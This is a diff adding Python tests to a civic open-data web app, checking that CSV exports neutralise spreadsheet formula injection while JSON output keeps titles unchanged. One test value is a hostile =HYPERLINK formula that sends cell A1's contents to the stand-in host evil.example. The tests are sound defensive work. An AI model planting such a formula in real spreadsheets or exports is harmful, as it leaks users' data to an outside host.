@@ -256,3 +256,63 @@ def test_pact_rows_list_commons_by_name_districts_once_and_read_the_audit_trail(
     items = {i["id"]: i for i in json.loads(client.get("/open-data/pacts.json").get_data())}
     assert items[p.id]["districts"] == "Centro;Navile;Savena"
     assert items[archived_never.id]["representative"] is None
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_formula_like_text_is_neutralised_in_the_csv_files_only(client, make):
+    """Spreadsheet formula injection (issue 14, defect 8): a text cell that a spreadsheet would
+    run as a formula gets a ' in front in the CSV files, read back as typed; numbers and dates
+    are not text and stay as they are; JSON keeps the text unchanged."""
+    from commons.tables import restore
+
+    cast = Cast()
+    p = proposal_in("co_design", cast)
+    p.title = HOSTILE_TITLE
+    quoted = proposal_in("co_design", cast)
+    quoted.title = "'=already quoted"
+    append_event(
+        "record_act",
+        proposal=p,
+        payload={"act_number": "-2+3", "act_date": "2026-05-30", "deliberation_number": "@x"},
+        public=True,
+    )
+    db.session.commit()
+
+    raw = client.get("/open-data/pacts.csv").get_data(as_text=True)
+    assert ',"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",' in raw
+    rows = {int(r["id"]): r for r in _rows(client, "/open-data/pacts.csv")}
+    assert rows[p.id]["title"] == "'" + HOSTILE_TITLE
+    assert rows[quoted.id]["title"] == "''=already quoted"
+    assert restore(rows[p.id]["title"]) == HOSTILE_TITLE
+    assert restore(rows[quoted.id]["title"]) == "'=already quoted"
+    for row in rows.values():
+        for name, value in row.items():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
+
+    events = [r for r in _rows(client, "/open-data/events.csv") if r["trigger"] == "record_act"]
+    assert events[0]["act_number"] == "'-2+3"
+    assert events[0]["deliberation_number"] == "'@x"
+    assert events[0]["act_date"] == "2026-05-30" and events[0]["seq"].isdigit()
+
+    items = {i["id"]: i for i in json.loads(client.get("/open-data/pacts.json").get_data())}
+    assert items[p.id]["title"] == HOSTILE_TITLE
+
+
+def test_negative_numbers_are_not_text():
+    from commons.public.opendata import Field, csv_records
+
+    fields = (Field("n", "integer", "n"), Field("t", "string", "t"), Field("d", "date", "d"))
+    text = "".join(csv_records(fields, iter([(-3, "-3", "2026-01-02"), (4, "+x", "")])))
+    assert text == "n,t,d\r\n-3,'-3,2026-01-02\r\n4,'+x,\r\n"
+
+
+def test_the_rule_is_explained_on_the_page_and_in_the_package(client):
+    from commons.public.opendata import SAFE_TABLES
+
+    html = client.get("/open-data/").get_data(as_text=True)
+    assert str(escape(SAFE_TABLES)) in html
+    package = client.get("/open-data/datapackage.json").get_json()
+    for resource in package["resources"]:
+        assert (str(SAFE_TABLES) in resource["description"]) == (resource["format"] == "csv")
